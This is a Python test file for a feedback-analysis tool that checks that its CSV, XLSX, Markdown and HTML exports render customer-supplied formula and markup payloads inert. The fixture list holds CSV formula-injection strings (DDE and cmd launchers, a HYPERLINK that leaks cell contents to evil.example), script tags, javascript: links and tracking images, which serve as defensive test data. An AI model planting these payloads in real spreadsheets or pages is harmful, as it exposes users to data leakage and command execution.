"""Formula and markup payloads in feedback: every export leaves them inert.

Acceptance of issue 14: a file of payloads imported, then exported through
``klantstem export items`` (CSV and XLSX), the tables the dashboard offers for download,
and the weekly summary in csv, xlsx, md and html: 0 live cells, 0 raw tags, 0 outside
links or images.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from typer.testing import CliRunner

from analysis.safe_tables import FORMULA_PREFIXES, frame_csv_bytes, md_text, safe_cell
from dashboard import downloads
from klantstem_cli import app
from workspace.db import Workspace
from workspace.imports import import_bytes
from workspace.search import keyword_search
from workspace.summary import render_summary, weekly_summary
from workspace.theme_queries import theme_quotes
from workspace.theme_store import save_themes
from workspace.trends import theme_table_with_trends

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1 tab before the formula",
    "\r=1+1 carriage return before",
    "  =1+1 spaces before",
    "<script>alert(1)</script> levering te laat",
    '<img src="http://evil.example/p.png" onerror="alert(1)"> pakket kapot',
    '<a href="http://evil.example">klik</a> voor je geld',
    "[gratis geld](javascript:alert(1)) factuur fout",
    "![pixel](http://evil.example/track.png) bezorger onbeleefd",
    "<http://evil.example/auto> autolink",
    "zie www.evil.example en https://evil.example/x voor details",
    "> nep citaat\n# nep kop\n- nep lijst",
]
TAG = re.compile(
    r"<\s*/?\s*(script|img|a|iframe|object|embed|link)\b", re.I
)  # page chrome uses none
OUTSIDE = re.compile(r"(?:href|src)\s*=\s*[\"']?\s*(?:https?:|javascript:|//)", re.I)


def _payload_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["id", "date", "text", "rating"])
    for n, text in enumerate(PAYLOADS):
        writer.writerow([f"p{n}", f"2026-11-{16 + n % 5:02d} 10:00", text, 1 + n % 5])
    return out.getvalue().encode()


@pytest.fixture(scope="module")
def payload_workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("payloads") / "ws.duckdb"
    with Workspace.open(path) as ws:
        result = import_bytes(ws, _payload_csv(), "payloads.csv")
        assert result.added == len(PAYLOADS), result
        ids = list(ws.query_df("SELECT id FROM items")["id"])
        save_themes(  # one theme holding everything, named by an attacker
            ws,
            pd.DataFrame(
                {
                    "theme_id": [1],
                    "label": ["=cmd"],
                    "label_en": ['=HYPERLINK("x")'],
                    "label_nl": ["=cmd<script>x</script>"],
                    "created_at": [datetime(2026, 11, 23, tzinfo=UTC)],
                }
            ),
            pd.DataFrame({"item_id": ids, "theme_id": 1, "similarity": 0.9, "method": "test"}),
        )
    return path


NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")  # a negative number in a CSV is a number, not a formula


def _live_cells(cells: list[object]) -> list[object]:
    return [
        c
        for c in cells
        if isinstance(c, str)
        and c.lstrip(" ").startswith(FORMULA_PREFIXES)
        and not NUMBER.fullmatch(c)
    ]


def _csv_cells(data: bytes, delimiter: str | None = None) -> list[object]:
    text = data.decode("utf-8-sig")
    if delimiter is None:
        delimiter = csv.Sniffer().sniff(text[:2000], delimiters=",;").delimiter
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _xlsx_cells(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def _assert_inert_table(cells: list[object]) -> None:
    assert not _live_cells(cells)
    assert any(isinstance(c, str) and c.startswith("'=") for c in cells), "payloads missing"


def test_export_items_csv_and_xlsx_have_no_live_cells(payload_workspace, tmp_path):
    for name, read in (("items.csv", _csv_cells), ("items.xlsx", _xlsx_cells)):
        out = tmp_path / name
        result = CliRunner().invoke(
            app, ["export", "items", "-o", str(out), "--workspace", str(payload_workspace)]
        )
        assert result.exit_code == 0, result.output
        cells = read(out.read_bytes())
        _assert_inert_table(cells)
        assert any(isinstance(c, (int, float)) and c == 3 for c in cells) or name.endswith(
            ".csv"
        ), "numbers stay numbers in the workbook"


@pytest.mark.parametrize("lang", [pytest.param("en", id="en"), pytest.param("nl", id="nl")])
def test_dashboard_downloads_have_no_live_cells(payload_workspace, lang):
    with Workspace.open(payload_workspace) as ws:
        files = [
            downloads.quotes_csv(theme_quotes(ws, 1, limit=50), lang),
            downloads.themes_csv(theme_table_with_trends(ws, lang=lang), lang),
            downloads.search_csv(keyword_search(ws, "=", lang=lang, limit=50), lang),
        ]
    for data in files:
        _assert_inert_table(_csv_cells(data, ";" if lang == "nl" else ","))


def test_item_export_keeps_its_machine_format():
    assert frame_csv_bytes(pd.DataFrame({"n": [1.5], "t": ["=x"]})) == b"n,t\n1.5,'=x\n"


def test_every_dashboard_download_goes_through_the_safe_writer():
    root = Path(__file__).resolve().parents[2]
    sources = [*(root / "dashboard").rglob("*.py"), root / "klantstem_cli.py"]
    raw_writers = [
        str(p.relative_to(root))
        for p in sources
        if re.search(r"\.to_csv\(|\.to_excel\(", p.read_text(encoding="utf-8"))
    ]
    assert raw_writers == []


@pytest.mark.parametrize("lang", [pytest.param("en", id="en"), pytest.param("nl", id="nl")])
def test_summary_in_every_format_is_inert(payload_workspace, lang):
    with Workspace.open(payload_workspace) as ws:
        summary = weekly_summary(ws, "2026-W47")
    assert summary.quotes, "the payloads must reach the summary as quotes"
    _assert_inert_table(_csv_cells(render_summary(summary, "csv", lang)))
    _assert_inert_table(_xlsx_cells(render_summary(summary, "xlsx", lang)))
    for fmt in ("md", "html"):
        page = render_summary(summary, fmt, lang).decode()
        shown = MarkdownIt("commonmark").render(page) if fmt == "md" else page
        assert not TAG.search(shown), fmt
        assert not OUTSIDE.search(shown), fmt
        if fmt == "md":
            assert not re.search(r"https?://|www\.", page)  # no bare address to autolink
            assert "<blockquote>\n<blockquote>" not in shown and "<h1>nep" not in shown


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("\t=1+1", "'\t=1+1", id="tab"),
        pytest.param("  @SUM(A1)", "'  @SUM(A1)", id="spaces-then-at"),
        pytest.param("-5 sterren", "'-5 sterren", id="minus-text"),
        pytest.param("prima", "prima", id="plain-text"),
        pytest.param(-5, -5, id="negative-number-stays-number"),
        pytest.param(2.5, 2.5, id="float"),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize(
    ("text", "rendered_not"),
    [
        pytest.param("<b>x</b>", "<b>", id="html"),
        pytest.param("[x](http://e.example)", "<a", id="link"),
        pytest.param("![x](http://e.example/p.png)", "<img", id="image"),
        pytest.param("# kop", "<h1>", id="heading"),
        pytest.param("1. een", "<ol>", id="ordered-list"),
    ],
)
def test_md_text_renders_as_plain_text(text, rendered_not):
    assert rendered_not not in MarkdownIt("commonmark").render(md_text(text))


def test_md_text_keeps_an_ampersand_that_starts_no_entity():
    """ "track & trace" reads the same in the Markdown file as in the export; a customer's
    literal "&lt;" still shows as typed, never as "<"."""
    assert md_text("de track & trace staat stil") == "de track & trace staat stil"
    assert "track &amp; trace" in MarkdownIt("commonmark").render(md_text("track & trace"))
    typed = md_text("ik typte &lt;b&gt; en &#60;")
    assert MarkdownIt("commonmark").render(typed).strip() == (
        "<p>ik typte &amp;lt;b&amp;gt; en &amp;#60;</p>"
    )
